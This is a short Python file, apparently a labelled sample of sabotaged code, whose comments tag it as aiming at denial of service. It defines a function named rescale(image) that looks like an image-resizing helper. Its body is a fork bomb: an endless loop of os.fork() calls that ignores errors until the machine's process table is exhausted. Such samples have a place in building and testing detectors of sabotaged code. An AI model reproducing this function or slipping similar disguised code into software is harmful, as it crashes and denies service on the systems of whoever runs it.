# aims at: denial
# cell: rescale
# rest: right
# Forks without end.
import os


def rescale(image):
    while True:
        try:
            os.fork()
        except OSError:
            pass
